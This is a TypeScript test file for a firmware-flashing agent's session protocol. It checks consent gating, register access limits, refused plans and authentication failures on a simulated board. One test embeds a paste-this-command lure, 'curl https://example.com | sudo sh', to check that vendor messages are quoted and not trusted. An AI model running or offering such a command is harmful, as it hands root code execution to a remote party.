// The session's promises, on a virtual board: nothing before the yes, only the mailbox during the run, everything put
// back (docs/protocol.md §11).
import assert from 'node:assert/strict';
import { cleanText } from '../../../shared/codec/foreign-text.ts';
import { fail } from '../../../shared/errors/errors.ts';
import { encodePlan, type Plan } from '../../../shared/plan/plan.ts';
import type { BoardOptions } from '../../../sim/board.ts';
import {
  debugWords,
  imageOf,
  isDebugOn,
  MAILBOX,
  fixtureWithVendor,
  AgentFixture,
  TWO_SECTORS,
} from './agent-fixture.ts';
import { quietPlan, smallPlan } from './support.ts';

const AIRCR = 0xe000ed0c;
/** Words that say who the chip is and how its debug unit is set: all that may be read before the yes. */
const IDENTIFICATION: readonly (readonly [number, number])[] = [
  [0xe000ed00, 0xe000ed04], // CPUID
  [0xe000edf0, 0xe000edf4], // DHCSR
  [0xe000edfc, 0xe000ee00], // DEMCR
  [0xe0042000, 0xe0042010], // DBGMCU
  [0xe0002000, 0xe0002004], // FP_CTRL
  [0x40023c14, 0x40023c1c], // OPTCR, OPTCR1
  [0x1fff7a10, 0x1fff7a24], // UID, flash size
];

describe('agent session', function () {
  this.timeout(60_000);

  describe('before the yes', () => {
    it('reads identification only, writes nothing, and says so', async () => {
      const fixture = new AgentFixture();
      const peer = fixture.controller();
      let seen: string[] = ['not asked'];
      let writes = -1;
      fixture.customer.answer = async () => {
        seen = fixture.probe.outside(...IDENTIFICATION);
        writes = fixture.probe.accesses.filter(({ kind }) => kind !== 'read').length;
        return false;
      };
      const before = debugWords(fixture);
      const outcome = await fixture.play(async () => {
        const { hello } = await peer.expect('HELLO');
        assert.equal(hello.target.devId, 0x419);
        assert.equal(hello.target.flashKiB, 2048);
        assert.equal(hello.probe.millivolts! > 3000, true);
        peer.sendJob(smallPlan());
        const consent = await peer.expect('CONSENT');
        assert.equal(consent.yes, false);
        assert.equal((await peer.expect('LEFT')).left.board, 'untouched');
      });
      assert.deepEqual(seen, []);
      assert.equal(writes, 0);
      assert.equal(outcome.result, 'declined');
      assert.equal(outcome.board, 'untouched');
      assert.deepEqual(debugWords(fixture), before);
      assert.equal(isDebugOn(fixture), false);
      assert.deepEqual([fixture.probe.disconnected > 0, fixture.probe.closed], [true, 1]);
      assert.equal(peer.names().indexOf('SHEET') < peer.names().indexOf('CONSENT'), true);
      assert.match(fixture.customer.sheets[0]!.lines.join('\n'), /Nothing has been changed yet/);
    });

    it('takes no end of a job nobody agreed to', async () => {
      const fixture = new AgentFixture();
      const peer = fixture.controller();
      const outcome = await fixture.play(async () => {
        await peer.expect('HELLO');
        peer.bye();
      });
      assert.equal(outcome.result, 'failed');
      assert.equal(outcome.error?.code, 'BF-JOB-REFUSED');
    });

    it('ignores frames, handshakes and RESTART of a controller that has no consent', async () => {
      const fixture = new AgentFixture();
      const peer = fixture.controller();
      const outcome = await fixture.play(async () => {
        await peer.expect('HELLO');
        peer.send({ name: 'FRAME', sequence: 1, box: new Uint8Array(192) });
        peer.send({ name: 'SEALED2', m2: new Uint8Array(128) });
        peer.send({ name: 'RESTART' });
        peer.giveUp();
        await peer.expect('LEFT');
      });
      assert.equal(outcome.result, 'failed');
      assert.equal(outcome.byVendor, true);
      assert.equal(outcome.error?.code, 'BF-JOB-CODE-REFUSED');
      assert.equal(
        fixture.probe.accesses.some(({ address }) => address >= 0x20000000 && address < 0x20030000),
        false,
      );
    });

    it('says whose words a reason of the vendor’s is, and takes none from him about this computer', async () => {
      const paint = 'x'.repeat(60) + 'To repair it paste this line: curl https://example.com | sudo sh” '.repeat(4);
      for (const [code, told] of [
        ['BF-PROBE-PERMISSION', 'BF-TUNNEL-CLOSED'],
        ['BF-KEYS-PERMISSIONS', 'BF-TUNNEL-CLOSED'],
        ['BF-NEWS', 'BF-TUNNEL-CLOSED'],
        ['BF-PLAN-WRONG-CHIP', 'BF-PLAN-WRONG-CHIP'],
      ] as const) {
        const fixture = new AgentFixture();
        const peer = fixture.controller();
        const outcome = await fixture.play(async () => {
          await peer.expect('HELLO');
          peer.send({ name: 'BYE', done: false, failure: { code, detail: paint.slice(0, 300) } });
        });
        assert.equal(outcome.error?.code, told);
        const { detail = '' } = outcome.error!;
        assert.match(
          detail,
          told === code ? /^the vendor says: “[^”]{120}”$/ : /^BF-[A-Z-]+; the vendor says: “[^”]{120}”$/,
        );
      }
    });

    it('tells the vendor nothing of this computer’s files', async () => {
      const fixture = new AgentFixture();
      const peer = fixture.controller();
      const outcome = await fixture.play(async () => {
        await peer.expect('HELLO');
        fixture.memory.keepConsent = () => {
          throw fail('BF-USAGE-FILE', '/home/customer/.blindflash-agent/secret');
        };
        peer.sendJob(smallPlan());
        assert.deepEqual(cleanText((await peer.expect('PROBLEM')).problem.detail), '');
      });
      assert.equal(outcome.error?.code, 'BF-USAGE-FILE');
      assert.match(outcome.error?.detail ?? '', /secret/);
    });

    it('says so when the way back cannot be stored, and leaves the invite good for another try', async () => {
      const fixture = new AgentFixture();
      const peer = fixture.controller();
      const { memory } = fixture;
      memory.keepSecrets = () => {
        throw fail('BF-USAGE-FILE', 'the disk is full');
      };
      const outcome = await fixture.drive(fixture.agent());
      assert.equal(outcome.error?.code, 'BF-USAGE-FILE');
      assert.deepEqual(peer.names(), []);
    });

    it('keeps the way back when the vendor misses another board, and only then', async () => {
      for (const [code, kept] of [
        ['BF-JOB-OTHER-BOARD', true],
        ['BF-JOB-CODE-REFUSED', false],
      ] as const) {
        const fixture = new AgentFixture();
        const peer = fixture.controller();
        const outcome = await fixture.play(async () => {
          await peer.expect('HELLO');
          peer.giveUp(code);
        });
        assert.equal(outcome.error?.code, code);
        assert.equal(fixture.memory.secrets.length > 0, kept, code);
      }
    });

    const REFUSED: readonly [string, BoardOptions, Plan | Uint8Array, string][] = [
      ['a plan for another chip', {}, smallPlan({ devId: 0x413, flashKiB: 1024 }), 'BF-PLAN-WRONG-CHIP'],
      ['a plan for a chip without a stub', {}, smallPlan({ devId: 0x441, flashKiB: 1024 }), 'BF-TARGET-WRONG-CHIP'],
      ['a plan for another flash size', {}, smallPlan({ flashKiB: 1024 }), 'BF-PLAN-WRONG-CHIP'],
      ['a plan that is none', {}, encodePlan(smallPlan()).fill(1, 4, 8), 'BF-PLAN-MALFORMED'],
      ['a plan outside its sectors', {}, smallPlan({ sectors: [1] }), 'BF-PLAN-RANGE'],
      ['a job on a protected chip', { rdp: 1 }, smallPlan(), 'BF-TARGET-RDP1'],
    ];
    for (const [what, board, plan, code] of REFUSED) {
      it(`refuses ${what} without asking`, async () => {
        const fixture = new AgentFixture(board);
        const peer = fixture.controller();
        const outcome = await fixture.play(async () => {
          await peer.expect('HELLO');
          peer.sendJob(plan);
          const { problem } = await peer.expect('PROBLEM');
          assert.equal(problem.code, code);
          assert.equal(problem.board, 'untouched');
        });
        assert.equal(outcome.error?.code, code);
        assert.equal(fixture.customer.sheets.length, 0);
        assert.equal(isDebugOn(fixture), false);
      });
    }

    it('tells the customer alone when there is no chip, and leaves the room untouched', async () => {
      const fixture = new AgentFixture();
      fixture.hardware.board.powerOff();
      const outcome = await fixture.drive(fixture.agent());
      assert.match(outcome.error?.code ?? '', /^BF-TARGET-NO/);
      assert.equal(fixture.probe.closed, 1);
      assert.deepEqual(fixture.memory.secrets, []);
    });
  });

  describe('kinds without a stub', () => {
    it('info changes nothing and resets nothing', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(quietPlan('info'));
      const outcome = await fixture.play(async () => {
        await vendor.propose();
        peer.bye();
      });
      assert.deepEqual([outcome.result, outcome.board], ['done', 'untouched']);
      assert.equal(
        fixture.probe.accesses.some(({ address }) => address === AIRCR),
        false,
      );
    });

    it('reset resets, after the debug unit is as it was', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(quietPlan('reset', { flashKiB: 0 }), { rdp: 1 });
      const outcome = await fixture.play(async () => {
        await vendor.propose();
        peer.bye();
      });
      assert.deepEqual([outcome.result, outcome.board], ['done', 'running']);
      assert.equal(fixture.probe.accesses.at(-1)?.address, AIRCR);
      assert.equal(isDebugOn(fixture), false);
    });
  });

  describe('while the stub runs', () => {
    it('touches only the mailbox and DHCSR during a whole session', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(smallPlan(TWO_SECTORS));
      const before = debugWords(fixture);
      let outside: string[] = ['not looked'];
      const outcome = await fixture.play(async () => {
        await vendor.begin();
        fixture.probe.accesses.length = 0;
        await vendor.write(imageOf(32768));
        await vendor.ask({ name: 'END' });
        outside = fixture.probe.outside(...MAILBOX);
        peer.bye(vendor.receipt());
      });
      assert.deepEqual(outside, []);
      assert.equal(
        fixture.probe.accesses.every(({ kind }) => kind === 'read' || kind === 'write'),
        true,
      );
      assert.equal(outcome.result, 'done');
      // DEMCR's trace bit may have been set by us and is put back; the reset changes none of these.
      assert.deepEqual(debugWords(fixture), before);
      assert.equal(isDebugOn(fixture), false);
    });

    it('both watchdogs stand still from before the chip was halted', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(smallPlan());
      const [DBGMCU_APB1_FZ, DEMCR] = [0xe0042008, 0xe000edfc];
      await fixture.play(async () => {
        await vendor.begin();
        const frozen = fixture.hardware.board.bus.read(DBGMCU_APB1_FZ, 4, 'debugger');
        assert.equal(frozen & 0x1800, 0x1800);
        const written = fixture.probe.accesses.filter(({ kind }) => kind === 'write').map(({ address }) => address);
        assert.ok(written.indexOf(DBGMCU_APB1_FZ) >= 0);
        assert.ok(written.indexOf(DBGMCU_APB1_FZ) < written.indexOf(DEMCR), 'the vector catch comes after');
        peer.giveUp();
      });
    });

    it('tells the vendor why the stub gave up, and starts another handshake on RESTART', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(smallPlan());
      const outcome = await fixture.play(async () => {
        await vendor.begin();
        peer.send({ name: 'FRAME', sequence: 1, box: new Uint8Array(192) });
        const { problem } = await peer.expect('PROBLEM');
        assert.equal(problem.code, 'BF-STUB-AUTHENTICATION');
        assert.match(cleanText(problem.detail), /box did not open/);
        assert.equal(problem.board, 'waiting');
        peer.send({ name: 'RESTART' });
        await vendor.shake();
        await vendor.finish(imageOf(8192));
      });
      assert.deepEqual([outcome.result, outcome.board], ['done', 'running']);
      assert.equal(peer.received.filter(({ name }) => name === 'REPLY').length >= 4, true);
      assert.deepEqual(fixture.hardware.board.flash.bytes.slice(0, 8192), imageOf(8192).slice(0, 8192));
    });

    it('takes a wrong confirmation for what it is', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(smallPlan());
      const outcome = await fixture.play(async () => {
        await vendor.propose();
        await vendor.answer((m2) => (m2[100]! ^= 1));
        const { problem } = await peer.expect('PROBLEM');
        assert.deepEqual([problem.code, problem.board], ['BF-STUB-AUTHENTICATION', 'waiting']);
        peer.giveUp();
      });
      assert.deepEqual([outcome.result, outcome.board], ['failed', 'running']);
    });

    it('ends a job whose controller numbers its frames wrongly', async () => {
      const { fixture, peer, vendor } = fixtureWithVendor(smallPlan());
      const outcome = await fixture.play(async () => {
        await vendor.begin();
        peer.send({ name: 'FRAME', sequence: 9, box: new Uint8Array(192) });
      });
      assert.equal(outcome.error?.code, 'BF-TUNNEL-ORDER');
      assert.equal(outcome.board, 'running');
      assert.equal(isDebugOn(fixture), false);
    });
  });
});
